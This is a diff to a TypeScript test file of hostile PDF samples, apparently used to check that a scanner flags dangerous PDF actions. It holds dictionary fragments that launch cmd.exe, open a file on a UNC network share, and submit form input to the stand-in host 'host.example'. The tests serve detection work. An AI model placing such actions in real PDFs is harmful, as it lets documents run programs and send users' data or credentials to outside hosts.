@@ -30,6 +30,12 @@ export const hostilePdfs: readonly (readonly [what: string, pdf: Buffer, words: 
     'holds scripts',
   ],
   ['a program to start', samplePdf(['<< /S /Launch /F (cmd.exe) >>']), 'can start programs'],
+  ['another file to open', samplePdf(['<< /S /GoToR /F (//host/share/x.pdf) >>']), 'open other files'],
+  [
+    'a form that is sent elsewhere',
+    samplePdf(['<< /S /SubmitForm /F (https://host.example/take) >>']),
+    'send what is typed',
+  ],
   [
     'a file inside',
     samplePdf(['<< /Type /EmbeddedFile >>'], { catalog: '/Names << >>' }),
